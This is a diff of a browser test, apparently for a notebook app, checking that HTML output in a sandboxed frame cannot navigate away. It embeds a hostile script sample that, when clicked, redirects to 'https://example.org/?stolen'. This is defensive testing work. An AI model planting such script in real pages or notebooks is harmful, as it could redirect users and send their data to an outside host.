@@ -107,11 +107,12 @@ describe("a hostile document", () => {
     const requested = [];
     page.page.on("request", (request) => requested.push(request.url()));
     await page.newNotebook();
-    // Late enough to be seen before: a frame whose leaving was refused shows the browser's own page instead.
-    const html = "<p>here</p><script>setTimeout(() => { location.href = 'https://example.org/?stolen'; }, 2000)</script>";
+    // On a press, so that it was seen before: a frame whose leaving was refused shows the browser's own page instead.
+    const html = "<p>here</p><script>document.querySelector('p').onclick = () => { location.href = 'https://example.org/?stolen'; }</script>";
     await page.runCell(0, `from IPython.display import HTML, display\ndisplay(HTML(${JSON.stringify(html)}))`);
-    await page.outputFrame(0).locator("p").waitFor();
-    await page.page.waitForTimeout(3000);
+    await page.outputFrame(0).locator("p").click();
+    await page.outputFrame(0).locator("p").waitFor({ state: "detached" });
+    await page.page.waitForTimeout(1000);
     assert.deepEqual(requested.filter((url) => url.includes("example.org")), []);
     await page.close();
   });
